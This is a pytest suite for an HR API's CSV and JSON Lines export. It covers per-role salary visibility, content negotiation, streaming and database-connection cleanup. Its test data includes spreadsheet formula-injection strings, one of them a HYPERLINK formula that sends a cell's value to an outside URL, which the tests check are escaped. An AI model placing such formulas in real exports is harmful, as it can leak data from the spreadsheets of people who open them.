"""Lists as files over HTTP: for whom, in which form, and what is left behind where a client goes."""

from __future__ import annotations

import csv
import http.client
import io
import json
import socket
from collections.abc import Iterator
from datetime import date, timedelta
from typing import Any

import pytest
import sqlalchemy as sa

from colonnade.core.database import statements_of
from colonnade.plugins.people.models import Department, Employee, Salary
from colonnade.plugins.transfer.guard import guarded, unguarded
from tests.functional.company import Company, company, salary
from tests.resilience.serving import PATIENCE, Client, eventually, served

MANY = 20_000
FORMS = ("text/csv", "application/jsonl")


@pytest.fixture(scope="module")
def firm(module_database_url: str) -> Iterator[Company]:
    """A company that has one connection to read by, and many salaries."""
    with company(module_database_url, **{"sqlalchemy.pool_size": "1", "sqlalchemy.max_overflow": "0"}) as made:
        with made.database.sessions.begin() as session:
            session.execute(sa.insert(Salary), list(salaries(1, MANY)))
        yield made


def salaries(employee_id: int, number: int) -> Iterator[dict[str, Any]]:
    """Salaries of one day each."""
    for day in range(number):
        at = date(1900, 1, 1) + timedelta(days=day)
        yield {"employee_id": employee_id, "amount": day, "from_date": at, "to_date": at}


def file(firm: Company, user: str | None, path: str, accept: str = "text/csv", **expected: Any) -> Any:
    """An answer."""
    return firm.client(user).get(f"/api/v1/{path}", headers={"Accept": accept}, **expected)


def table(firm: Company, user: str, path: str, accept: str = "text/csv") -> list[dict[str, str]]:
    """The rows of a CSV file."""
    body = file(firm, user, path, accept, status=200).body.decode()
    return list(csv.DictReader(io.StringIO(body, newline=""), strict=True))


def lines(firm: Company, user: str, path: str) -> list[dict[str, Any]]:
    """The records of a file of JSON Lines."""
    return [json.loads(line) for line in file(firm, user, path, "application/jsonl", status=200).text.splitlines()]


def assert_all_connections_are_back(firm: Company) -> None:
    """None is in use."""
    pools: Any = [engine.pool for engine in firm.database.engines]
    eventually(lambda: not any(pool.checkedout() for pool in pools), "all connections are given back")


# -- For whom


def test_an_auditors_file_has_no_column_for_salaries(firm: Company) -> None:
    assert "salary" not in table(firm, "auditor", "employees")[0]
    assert "salary" in table(firm, "hr", "employees")[0]
    assert all("salary" not in each for each in lines(firm, "auditor", "employees"))
    refused = file(firm, "auditor", "employees?fields=salary", status=400)
    assert refused.json["errors"][0]["code"] == "unknown_field"


def test_staff_find_their_own_salary_and_empty_cells(firm: Company) -> None:
    cells = {row["number"]: row["salary"] for row in table(firm, "ann", "employees")}
    assert {number: text for number, text in cells.items() if text} == {"3": "71003.03"}
    records = lines(firm, "ann", "employees")
    assert [each["number"] for each in records if "salary" in each] == [3]


def test_who_leads_a_department_finds_the_salaries_in_it(firm: Company) -> None:
    cells = {int(row["number"]): row["salary"] for row in table(firm, "max", "employees?sort=number")}
    seen = {number for number, text in cells.items() if text}
    assert seen == set(range(3, 31, 3))
    assert all(cells[number] == str(salary(number)) for number in seen)


def test_filters_and_orders_do_not_tell_what_may_not_be_seen(firm: Company) -> None:
    assert [row["number"] for row in table(firm, "ann", "employees?salary__gte=1")] == ["3"]
    assert table(firm, "ann", "employees?sort=-salary")[-1]["number"] == "3"


def test_who_may_see_nothing_gets_no_file(firm: Company) -> None:
    for form in FORMS:
        assert file(firm, "auditor", "salaries", form, status=403).content_type == "application/problem+json"
        answer = file(firm, None, "employees", form, status=401)
        assert answer.headers["WWW-Authenticate"].startswith("Bearer")
    assert_all_connections_are_back(firm)


# -- In which form


def test_a_file_has_every_record_of_the_list(firm: Company) -> None:
    rows = table(firm, "hr", "salaries")
    records = lines(firm, "hr", "salaries")
    assert len(rows) == len(records) == MANY + 60
    assert [int(row["id"]) for row in rows] == [each["id"] for each in records] == sorted(int(r["id"]) for r in rows)
    assert [row["amount"] for row in rows] == [each["amount"] for each in records]
    assert len(table(firm, "hr", "salaries?limit=7&sort=-amount")) == 7
    assert table(firm, "hr", "salaries?employee.number=3")[0]["employee_id"] == "3"


def test_relations_to_one_are_columns_and_those_to_many_are_for_json_lines(firm: Company) -> None:
    path = "employees?fields=number,department.code,manager.number&sort=number&limit=3"
    assert table(firm, "hr", path) == [
        {"number": "1", "department.code": "d2", "manager.number": ""},
        {"number": "2", "department.code": "d3", "manager.number": ""},
        {"number": "3", "department.code": "d1", "manager.number": "6"},
    ]
    refused = file(firm, "hr", "employees?expand=reports", status=400)
    assert refused.json["errors"][0]["parameter"] == "expand"
    led = lines(firm, "hr", "employees?number=6&fields=reports.number")[0]["reports"]
    assert led == {"data": [{"number": number} for number in (3, *range(9, 31, 3))], "next": None}
    more = lines(firm, "hr", "employees?number=6&expand=reports(limit=2)")[0]["reports"]
    assert len(more["data"]) == 2
    assert more["next"].startswith("http://localhost/api/v1/employees/6/reports?")


def test_what_a_program_needs_to_know_is_in_the_head(firm: Company) -> None:
    answer = file(firm, "hr", "employees")
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
    assert answer.headers["Content-Disposition"] == "attachment; filename=employees.csv"
    assert answer.headers["Cache-Control"] == "private"
    assert answer.headers["Vary"] == "Authorization, Cookie, Accept"
    assert answer.body.startswith(b"id,number,first_name,")
    assert answer.body.count(b"\r\n") == 31
    for form in ("application/jsonl", "application/x-ndjson"):
        answer = file(firm, "hr", "employees", form)
        assert answer.headers["Content-Type"] == form
        assert answer.headers["Content-Disposition"] == "attachment; filename=employees.jsonl"
    head = firm.client("hr").head("/api/v1/salaries", headers={"Accept": "text/csv"}, status=200)
    assert head.body == b""
    assert_all_connections_are_back(firm)


def test_json_is_what_is_liked_best_unless_another_form_is(firm: Company) -> None:
    for accept, expected in {
        "*/*": "application/json",
        "text/csv, application/json;q=0.9": "text/csv",
        "text/*": "text/csv",
        "application/json, text/csv;q=0.5": "application/json",
        "application/x-ndjson, */*;q=0.1": "application/x-ndjson",
    }.items():
        assert file(firm, "hr", "departments", accept).content_type == expected
    refused = file(firm, "hr", "departments", "application/pdf", status=406).json
    forms = ["application/json", "text/csv", "text/csv;formulas=raw", "application/jsonl", "application/x-ndjson"]
    assert refused["available"] == forms
    assert file(firm, "hr", "employees/1", "text/csv", status=406).json["available"] == ["application/json"]


def test_words_of_pages_have_no_meaning(firm: Company) -> None:
    for form in FORMS:
        for query in ("cursor=abc", "page=2", "offset=3", "count=exact"):
            (fault,) = file(firm, "hr", f"employees?{query}", form, status=400).json["errors"]
            assert (fault["parameter"], fault["code"]) == (query.partition("=")[0], "not_a_page")
    assert_all_connections_are_back(firm)


# -- Cells

TEXTS = [
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    "+1",
    "-1",
    "@SUM(A1)",
    "\tafter a tab",
    "\rafter a return",
    "\nafter a line",
    "＝in full width",  # noqa: RUF001
    "'=one apostrophe",
    "''@two of them",
    "'an apostrophe",
    "O'Brien",
    'a,comma; a "quote"',
    "two\nlines\r\nand a third",
    "Ødegård 李 😀",
    " spaces ",
    "",
    "null",
    "1e5",
]


@pytest.fixture(scope="module")
def texts(firm: Company) -> Iterator[list[str]]:
    """Departments of these names."""
    with firm.database.sessions.begin() as session:
        session.add_all([Department(code=f"t{index:02}", name=text) for index, text in enumerate(TEXTS)])
    yield TEXTS
    with firm.database.sessions.begin() as session:
        session.execute(sa.delete(Department).where(Department.code.startswith("t")))


def test_no_cell_is_taken_for_a_formula(firm: Company, texts: list[str]) -> None:
    names = [row["name"] for row in table(firm, "hr", "departments?code__startswith=t&sort=code")]
    signs = ("=", "+", "-", "@", "\t", "\r", "\n", "＝")  # noqa: RUF001
    assert not [name for name in names if name.startswith(signs)]
    assert [unguarded(name) for name in names] == texts
    changed = [text for text, name in zip(texts, names, strict=True) if text != name]
    assert changed == texts[:10]


def test_a_program_gets_texts_as_they_are(firm: Company, texts: list[str]) -> None:
    path = "departments?code__startswith=t&sort=code"
    assert [row["name"] for row in table(firm, "hr", path, "text/csv;formulas=raw")] == texts
    assert [each["name"] for each in lines(firm, "hr", path)] == texts


def test_numbers_and_dates_are_left_as_they_are(firm: Company) -> None:
    """A minus before a number is no formula."""
    with firm.database.sessions.begin() as session:
        session.execute(sa.update(Employee).where(Employee.number == 1).values(number=-1))
    try:
        (row,) = table(firm, "hr", "employees?number=-1")
    finally:
        with firm.database.sessions.begin() as session:
            session.execute(sa.update(Employee).where(Employee.number == -1).values(number=1))
    assert (row["number"], row["birth_date"], row["salary"]) == ("-1", "1961-01-01", "71001.01")


def test_what_guards_a_text_is_undone_exactly() -> None:
    for text in ["", *TEXTS, *("'" * number + sign for number in range(4) for sign in ("=", "x", ""))]:
        (cell,) = guarded([text])
        assert cell is not None
        assert unguarded(cell) == text
    assert guarded([None]) == [None]


def test_null_and_the_empty_text_are_empty_cells(firm: Company, texts: list[str]) -> None:
    """JSON Lines tell them apart."""
    (row,) = table(firm, "hr", "departments?code=t16")
    assert (row["name"], row["manager_id"]) == ("", "")
    (record,) = lines(firm, "hr", "departments?code=t16")
    assert (record["name"], record["manager_id"]) == ("", None)
    assert file(firm, "hr", "departments?code=t16&fields=manager_id").body == b'manager_id\r\n""\r\n'


# -- On its way


def test_one_connection_serves_the_identity_and_the_file(firm: Company) -> None:
    """And two statements, however long the file is."""
    for form in FORMS:
        with statements_of(firm.database) as seen:
            file(firm, "ann", "salaries", form, status=200)
        assert len(seen) == 2, seen
    assert_all_connections_are_back(firm)


@pytest.mark.parametrize("form", FORMS)
def test_a_file_shows_one_moment(firm: Company, form: str) -> None:
    """What is added and deleted while it is read makes no difference to it."""
    app_iter = started(firm, form)
    first = next(app_iter)
    gone = [each for each in salaries(1, MANY) if each["from_date"].year == 1950]
    with firm.database.sessions.begin() as session:
        session.execute(sa.insert(Salary), list(salaries(2, 10)))
        session.execute(sa.delete(Salary).where(Salary.from_date.between(date(1950, 1, 1), date(1950, 12, 31))))
    body = first + b"".join(app_iter)
    with firm.database.sessions.begin() as session:
        session.execute(sa.delete(Salary).where(Salary.employee_id == 2, Salary.from_date < date(1901, 1, 1)))
        session.execute(sa.insert(Salary), gone)
    assert len(gone) == 365
    assert body.count(b"\n") == MANY + 60 + (form == "text/csv")


def started(firm: Company, form: str = "text/csv", path: str = "salaries") -> Any:
    """The iterable of an answer, as a server gets it."""
    request = firm.client("hr").RequestClass.blank(f"/api/v1/{path}", accept=form)
    request.authorization = ("Bearer", firm.tokens["hr"])
    status, _, app_iter = request.call_application(firm.app)
    assert status == "200 OK"
    return app_iter


def test_fifty_downloads_that_are_given_up_leave_nothing(firm: Company) -> None:
    """There is one connection to read by: one that stayed away would be missed."""
    for number in range(50):
        app_iter = started(firm, FORMS[number % 2])
        next(iter(app_iter))
        if number % 3 == 0:
            next(iter(app_iter))
        app_iter.close()
    app_iter = started(firm)
    del app_iter  # never closed: dropped, as by a transaction that is tried again
    assert_all_connections_are_back(firm)
    file(firm, "hr", "employees", status=200)


def test_clients_that_leave_in_the_middle_leave_nothing(firm: Company) -> None:
    with served(firm.app, threads=2) as port:
        for _ in range(10):
            with socket.create_connection(("127.0.0.1", port), timeout=PATIENCE) as client:
                head = ["GET /api/v1/salaries HTTP/1.1", "Host: x", "Accept: text/csv"]
                head += [f"Authorization: Bearer {firm.tokens['hr']}", "", ""]
                client.sendall("\r\n".join(head).encode())
                assert client.recv(20).startswith(b"HTTP/1.1 200")
        assert_all_connections_are_back(firm)
        whole = Client(port, firm.tokens["hr"], {"Accept": "text/csv"}).get("/api/v1/salaries")
        assert whole.headers["Transfer-Encoding"] == "chunked"
        assert whole.body.count(b"\r\n") == MANY + 61
        assert_all_connections_are_back(firm)


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("dialect_name", ["postgresql"], indirect=True)
def test_a_file_that_cannot_be_ended_is_broken_off(firm: Company, form: str) -> None:
    """The server ends the session in the middle: the file is visibly not whole, and the next one is."""
    killing = sa.text(
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = current_database() "
        "AND state = 'idle in transaction'"
    )
    app_iter = started(firm, form)
    next(app_iter)
    with firm.database.engine.connect() as connection:
        assert connection.execute(killing).all() == [(True,)]
    with pytest.raises(Exception, match=r"restarted|lost|ended|reached"):
        list(app_iter)
    app_iter.close()
    assert_all_connections_are_back(firm)
    assert len(table(firm, "hr", "salaries")) == MANY + 60


@pytest.mark.parametrize("dialect_name", ["sqlite"], indirect=True)
def test_a_server_breaks_the_connection_where_a_file_cannot_be_ended(firm: Company) -> None:
    """Text that is no UTF-8, which only another program can have stored, far from the first row."""
    with firm.database.engine.begin() as connection:
        connection.exec_driver_sql("UPDATE salary SET to_date = CAST(x'ff' AS TEXT) WHERE id = 15000")
    try:
        with served(firm.app, threads=2) as port:
            client = Client(port, firm.tokens["hr"], {"Accept": "text/csv"})
            with pytest.raises(http.client.IncompleteRead):
                client.get("/api/v1/salaries")
            assert client.get("/api/v1/salaries?id__lt=15000").status == 200
            assert_all_connections_are_back(firm)
            # What goes wrong before the first byte is an answer.
            assert client.get("/api/v1/salaries?id=15000").status >= 500
            assert_all_connections_are_back(firm)
    finally:
        with firm.database.engine.begin() as connection:
            connection.exec_driver_sql("UPDATE salary SET to_date = from_date WHERE id = 15000")
